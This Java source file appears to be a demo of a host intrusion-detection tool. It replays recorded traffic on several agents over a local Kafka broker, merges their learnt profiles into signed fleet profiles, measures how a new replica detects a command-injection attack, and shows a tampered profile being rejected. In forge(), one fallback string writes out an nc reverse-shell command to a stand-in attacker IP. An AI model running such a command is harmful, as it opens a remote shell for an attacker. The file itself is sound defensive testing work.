package dev.vigil.demo;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.vigil.agent.Agent;
import dev.vigil.alert.Alert;
import dev.vigil.alert.AlertJson;
import dev.vigil.alert.AlertOutput;
import dev.vigil.alert.AlertText;
import dev.vigil.alert.Metrics;
import dev.vigil.config.AgentConfig;
import dev.vigil.fleet.FleetProfile;
import dev.vigil.fleet.FleetService;
import dev.vigil.fleet.Signer;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.io.PrintStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Comparator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Properties;
import java.util.Set;
import java.util.TreeMap;
import java.util.zip.GZIPInputStream;
import org.apache.kafka.clients.consumer.ConsumerConfig;
import org.apache.kafka.clients.producer.KafkaProducer;
import org.apache.kafka.clients.producer.ProducerRecord;
import org.apache.kafka.common.serialization.StringSerializer;
import org.apache.kafka.common.test.KafkaClusterTestKit;

/**
 * `vigil fleet demo`: the whole fleet loop on one machine, no setup, no root. An in-process
 * Kafka broker (KRaft) on loopback; three agents (web-1..3) replay recordings of the same
 * web service under normal traffic (three runs of the scenario benchmark's webapp, each with
 * its own seed: the same service, different requests) through their workload profiles and
 * publish their alerts and profile events; the fleet service merges the events (k hosts
 * make an item normal) and publishes signed profiles; a new replica (web-4, a fourth run
 * whose attack comes 40 s after its start) imports them and replays its recording, once with
 * the fleet's profile and once alone; then a tampered profile is published and rejected.
 * Every alert of every host is read back from the one topic at the end.
 */
public final class FleetDemo {
    /** The recordings in the jar (tools/fleet-demo-recordings.py made them from scenario runs). */
    static final String RESOURCES = "/dev/vigil/fleet/demo/";
    public static final List<String> HOSTS = List.of("web-1", "web-2", "web-3");
    public static final String REPLICA = "web-4";
    private static final ObjectMapper JSON = new ObjectMapper();
    private static final Duration WAIT = Duration.ofSeconds(60);

    /** A step of the replica's attack (its recording's ground truth) and how many ms after it the first alert came (-1: none before the next step). */
    public record Step(String step, java.time.Instant at, long firstAlertMs) {}

    /** How a replica did: novelty alerts before the attack (false alarms) and per attack step. */
    public record Outcome(List<Alert> novelties, int falseAlarms, List<Step> steps) {
        public long named() { return steps.stream().filter(s -> s.firstAlertMs() >= 0).count(); }
    }

    /** A workload's merged profile: its items normal fleet-wide, its dimensions learnt fleet-wide, its items seen on fewer than k hosts. */
    public record Merged(Map<String, Set<String>> normal, Set<String> learnt, int seenOnFewer) {}

    /** What the demo showed, for its test. */
    public record Result(Map<String, Merged> merged, String attacked, Map<String, Long> fleetCounts,
                         Outcome withFleet, Outcome alone, List<Alert> rejections, Map<String, Long> alertsByHost, Map<String, Long> eventsByHost) {}

    private final int k;
    private final Path work;
    private final PrintStream out;
    private final PrintStream quiet = new PrintStream(OutputStream.nullOutputStream());

    public FleetDemo(int k, Path work, PrintStream out) {
        this.k = k;
        this.work = work;
        this.out = out;
    }

    private void say(String fmt, Object... args) { out.println("[fleet demo] " + String.format(Locale.ROOT, fmt, args)); }

    public Result run() throws Exception {
        Files.createDirectories(work);
        Map<String, Path> rec = new LinkedHashMap<>();
        for (String h : concat(HOSTS, REPLICA)) rec.put(h, extract(h));
        say("starting a Kafka broker (KRaft, in this process, on loopback) ...");
        try (KafkaClusterTestKit kafka = LocalBroker.start()) {
            String bootstrap = kafka.bootstrapServers();
            say("broker up at %s; the fleet's Ed25519 key pair in %s", bootstrap, work.resolve("fleet"));
            Signer signer = Signer.generate(work.resolve("fleet"));
            Path pub = work.resolve("fleet").resolve(Signer.PUBLIC);
            try (FleetService fleet = new FleetService(FleetService.Settings.of(bootstrap, k), signer, quiet)) {
                // 1. three replicas of one service, each replaying its own recording, publish what their profiles learnt
                Map<String, Long> eventsByHost = new LinkedHashMap<>();
                long total = 0;
                for (String h : HOSTS) {
                    Collected c = new Collected();
                    long sent;
                    try (Agent a = new Agent(config(h, bootstrap, null), quiet, List.of(c))) {
                        var r = a.replayEvents(rec.get(h), Metrics.none());
                        sent = drain(a, h);
                        say("%s replayed %s (%,d entries, %s of normal traffic): %,d profile events to %s; %d alerts to %s (%d novelties, %d profile state changes)",
                                h, rec.get(h).getFileName(), r.entries().size(), span(r), sent, FleetService.EVENTS, c.alerts.size(), "vigil.alerts",
                                novelties(c.alerts).size(), c.alerts.size() - novelties(c.alerts).size());
                    }
                    eventsByHost.put(h, sent);
                    total += sent;
                }
                // 2. the fleet service merges them
                long end = System.nanoTime() + WAIT.toNanos();
                while (fleet.counts().get("events") < total && System.nanoTime() < end) fleet.pollOnce(Duration.ofMillis(200));
                if (fleet.counts().get("events") < total) throw new IllegalStateException("the fleet service read " + fleet.counts().get("events") + " of " + total + " events");
                fleet.flush();
                say("fleet service (k = %d): %,d events merged into %d workload profiles, signed, in %s", k, total, fleet.counts().get("workloads"),
                        FleetService.PROFILES);
                Map<String, Merged> merged = new TreeMap<>();
                for (String w : new java.util.TreeSet<>(fleet.workloads())) {
                    FleetProfile p = fleet.profile(w);
                    Map<String, Set<String>> normal = p.normal(k);
                    int one = 0;
                    for (var d : p.hosts().values()) for (var hs : d.values()) if (hs.size() < k) one++;
                    merged.put(w, new Merged(normal, p.stable(k), one));
                    say("  %s: %d items normal fleet-wide (%s), %d seen on fewer than %d hosts (still novel); learnt fleet-wide: %s", w,
                            normal.values().stream().mapToInt(Set::size).sum(), perDimension(normal), one, k, p.stable(k).isEmpty() ? "none" : String.join(", ", p.stable(k)));
                    example(p);
                }

                // 3. a new replica: alone it learns from nothing; with the fleet's profile it knows the service at once
                Collected alone = new Collected();
                try (Agent a = new Agent(config(REPLICA, null, null), quiet, List.of(alone))) {
                    a.replayEvents(rec.get(REPLICA), Metrics.none());
                }
                Collected with = new Collected();
                List<Alert> rejections = new ArrayList<>();
                try (Agent a = new Agent(config(REPLICA, bootstrap, pub), quiet, List.of(with))) {
                    var r = a.replayEvents(rec.get(REPLICA), Metrics.none());
                    say("%s, a new replica, replayed %s (%s: start, normal traffic, then an attack through the service's command injection)", REPLICA,
                            rec.get(REPLICA).getFileName(), span(r));
                    List<Step> truth = steps();
                    Outcome lone = outcome(novelties(alone.alerts), truth), fleetwise = outcome(novelties(with.alerts), truth);
                    say("  alone (its own profile, learning from nothing): %d of %d attack steps alerted%s, %d false alarms before the attack",
                            lone.named(), truth.size(), lone.named() == 0 ? "" : " (" + String.join(", ", lone.steps().stream().filter(st -> st.firstAlertMs() >= 0)
                                    .map(Step::step).toList()) + ": its profile became stable as the attack went on)", lone.falseAlarms());
                    say("  with the fleet's profile (verified before its first event, merged as the service started): %d of %d attack steps alerted, %d false alarms before the attack:",
                            fleetwise.named(), truth.size(), fleetwise.falseAlarms());
                    for (Step st : fleetwise.steps()) {
                        out.printf("    %-50s %s%n", st.step(), st.firstAlertMs() < 0 ? "not alerted" : "alerted " + st.firstAlertMs() + " ms after it was sent");
                    }
                    say("  its alerts, as the on-call engineer reads them:");
                    for (Alert x : fleetwise.novelties()) out.println("    " + AlertText.line(x));
                    List<Alert> withNovel = fleetwise.novelties();
                    String workload = withNovel.stream().map(x -> x.evidence().get("workload")).filter(x -> x instanceof String).map(String::valueOf)
                            .findFirst().orElse(merged.keySet().iterator().next());

                    // 4. someone with write access to the topic adds the attacker's program to the service's profile
                    String forged = forge(bootstrap, workload, withNovel);
                    say("publishing a tampered profile of %s to %s (%s added to its normal programs) ...", workload, FleetService.PROFILES, forged);
                    end = System.nanoTime() + WAIT.toNanos();
                    while (rejections.isEmpty() && System.nanoTime() < end) {
                        Thread.sleep(100);
                        a.pollFleet();
                        for (Alert x : with.alerts) if (x.detector().equals("fleet")) rejections.add(x);
                    }
                    drain(a, REPLICA);
                    for (Alert x : rejections) out.println("    " + AlertText.line(x));
                    // 5. every alert of every host, read back from the one stream
                    Map<String, Long> byHost = alertsByHost(bootstrap);
                    say("%s holds the alerts of every host: %s", "vigil.alerts", byHost);
                    say("done: the broker, the agents and the fleet service stop; %s", "nothing was installed or left running");
                    return new Result(merged, workload, fleet.counts(), fleetwise, lone, rejections, byHost, eventsByHost);
                }
            }
        }
    }

    /** Removes the demo's folder (best effort). */
    public static void delete(Path dir) {
        try (var s = Files.walk(dir)) {
            s.sorted(Comparator.reverseOrder()).forEach(f -> f.toFile().delete());
        } catch (IOException e) {
            // a temporary folder: left for the system to clean
        }
    }

    private static List<String> concat(List<String> a, String b) {
        List<String> l = new ArrayList<>(a);
        l.add(b);
        return l;
    }

    private Path extract(String host) throws IOException { return recording(host, work); }

    /** A host's demo recording, written (uncompressed) into dir. */
    public static Path recording(String host, Path dir) throws IOException {
        Path f = dir.resolve(host + ".events.jsonl");
        try (InputStream in = FleetDemo.class.getResourceAsStream(RESOURCES + host + ".events.jsonl.gz")) {
            if (in == null) throw new IllegalStateException("the demo recording of " + host + " is not in the jar (rebuild vigil)");
            try (InputStream gz = new GZIPInputStream(in)) {
                Files.copy(gz, f, java.nio.file.StandardCopyOption.REPLACE_EXISTING);
            }
        }
        return f;
    }

    /**
     * The agent's config: the scenario benchmark's profile settings (60 s of learning at least, stable after 30 s and
     * 5,000 calls without anything new, no warm-up), the Kafka output when bootstrap is given, the fleet subscription
     * when pub is.
     */
    private AgentConfig config(String host, String bootstrap, Path pub) {
        StringBuilder y = new StringBuilder();
        y.append("host: ").append(host).append('\n');
        y.append("""
                detectors:
                  sequence: {enabled: false}
                  profiles:
                    enabled: true
                    learning: {min: 60s, stable_after: 30s, stable_calls: 5000, deadline: 780s, max_items: 2000}
                    warmup: 0s
                alerts: {cooldown: 600s, rate_limit: 0, burst: 0}
                metrics: "off"
                """);
        if (bootstrap == null) {
            y.append("outputs: {file: {path: '").append(work.resolve(host + "-alone.alerts.jsonl")).append("'}}\n");
        } else {
            y.append("outputs:\n  kafka:\n    bootstrap: '").append(bootstrap).append("'\n    spool_dir: '").append(work.resolve(host).resolve("spool")).append("'\n");
            if (pub != null) y.append("    fleet_public_key: '").append(pub).append("'\n");
        }
        return AgentConfig.parse(host + ".yaml", y.toString());
    }

    /** Waits until the agent's Kafka spools are empty; its profile events sent. */
    private static long drain(Agent a, String host) throws InterruptedException {
        long end = System.nanoTime() + WAIT.toNanos();
        while (System.nanoTime() < end) {
            Map<String, Long> pe = a.profileEventCounts(), al = a.kafkaAlertCounts();
            if (pe.getOrDefault("spooled_bytes", 0L) == 0 && al.getOrDefault("spooled_bytes", 0L) == 0) return pe.getOrDefault("sent", 0L);
            Thread.sleep(50);
        }
        throw new IllegalStateException(host + ": the broker did not take its events within " + WAIT.toSeconds() + " s");
    }

    private static String span(dev.vigil.agent.EventLog.Recording r) {
        if (r.entries().isEmpty()) return "empty";
        Duration d = Duration.between(r.entries().getFirst().time(), r.entries().getLast().time());
        return d.toSeconds() + " s";
    }

    private static String perDimension(Map<String, Set<String>> m) {
        StringBuilder sb = new StringBuilder();
        m.forEach((d, items) -> sb.append(sb.isEmpty() ? "" : ", ").append(d).append(' ').append(items.size()));
        return sb.toString();
    }

    /** One item each of a few dimensions seen on fewer than k hosts: what stays novel. */
    private void example(FleetProfile p) {
        int shown = 0;
        for (var d : new TreeMap<>(p.hosts()).entrySet()) {
            for (var e : d.getValue().entrySet()) {
                if (e.getValue().size() < k && shown < 3) {
                    out.printf("    novel fleet-wide, seen on %s only: %s %s%n", String.join(", ", e.getValue()), d.getKey(), e.getKey());
                    shown++;
                    break;
                }
            }
        }
    }

    /** web-4's attack steps and when each was sent (the scenario run's ground truth). */
    private static List<Step> steps() throws IOException {
        try (InputStream in = FleetDemo.class.getResourceAsStream(RESOURCES + REPLICA + ".steps.tsv")) {
            if (in == null) throw new IllegalStateException("the ground truth of " + REPLICA + " is not in the jar (rebuild vigil)");
            List<Step> out = new ArrayList<>();
            for (String line : new String(in.readAllBytes(), java.nio.charset.StandardCharsets.UTF_8).split("\n")) {
                if (line.isBlank()) continue;
                String[] f = line.split("\t", 2);
                out.add(new Step(f[1], java.time.Instant.parse(f[0]), -1));
            }
            return out;
        }
    }

    /** Novelty alerts before the first step are false alarms; a step is alerted by the first alert from its sending to the next step's. */
    static Outcome outcome(List<Alert> novel, List<Step> truth) {
        java.time.Instant first = truth.isEmpty() ? java.time.Instant.MAX : truth.getFirst().at();
        int fa = (int) novel.stream().filter(a -> a.time().isBefore(first)).count();
        List<Step> steps = new ArrayList<>();
        for (int i = 0; i < truth.size(); i++) {
            Step s = truth.get(i);
            java.time.Instant until = i + 1 < truth.size() ? truth.get(i + 1).at() : java.time.Instant.MAX;
            long ms = novel.stream().filter(a -> !a.time().isBefore(s.at()) && a.time().isBefore(until)).mapToLong(a -> Duration.between(s.at(), a.time()).toMillis())
                    .min().orElse(-1);
            steps.add(new Step(s.step(), s.at(), ms));
        }
        return new Outcome(novel, fa, steps);
    }

    private static List<Alert> novelties(List<Alert> alerts) {
        return alerts.stream().filter(a -> a.detector().equals("profile") && !a.kind().equals("profile_state")).toList();
    }

    /** Publishes the latest document of workload with an attacker's program added to its normal set; returns that program. */
    private static String forge(String bootstrap, String workload, List<Alert> seen) throws Exception {
        String[] latest = {null};
        FleetService.readAll(clients(bootstrap), FleetService.PROFILES, r -> {
            if (workload.equals(r.key())) latest[0] = r.value();
        });
        String doc = latest[0];
        if (doc == null) throw new IllegalStateException("no document of " + workload + " in " + FleetService.PROFILES);
        String item = seen.stream().filter(a -> "process".equals(a.evidence().get("dimension"))).map(a -> a.evidence().get("item"))
                .filter(i -> i instanceof String).map(String::valueOf).findFirst()
                .orElse("/usr/sbin/nginx -> /usr/bin/nc -e /bin/sh 203.0.113.9 4444");
        ObjectNode o = (ObjectNode) JSON.readTree(doc);
        o.withObjectProperty("normal").withArrayProperty("process").add(item);
        try (var prod = new KafkaProducer<>(Map.<String, Object>of("bootstrap.servers", bootstrap), new StringSerializer(), new StringSerializer())) {
            prod.send(new ProducerRecord<>(FleetService.PROFILES, workload, o.toString())).get();
        }
        return item;
    }

    private static Properties clients(String bootstrap) {
        Properties p = new Properties();
        p.put(ConsumerConfig.BOOTSTRAP_SERVERS_CONFIG, bootstrap);
        return p;
    }

    /** Every alert in vigil.alerts, counted by host (the record's key). */
    private static Map<String, Long> alertsByHost(String bootstrap) {
        Map<String, Long> by = new TreeMap<>();
        FleetService.readAll(clients(bootstrap), "vigil.alerts", r -> {
            AlertJson.parse(r.value()); // each one in the alert schema
            by.merge(r.key(), 1L, Long::sum);
        });
        return by;
    }

    /** The demo's own output beside the config's: every alert an agent emitted. */
    private static final class Collected implements AlertOutput {
        final List<Alert> alerts = new java.util.concurrent.CopyOnWriteArrayList<>();
        public String name() { return "demo"; }
        public void send(Alert a) { alerts.add(a); }
        public Map<String, Long> counts() { return Map.of("sent", (long) alerts.size(), "failed", 0L, "dropped", 0L); }
        public void close() { }
    }
}
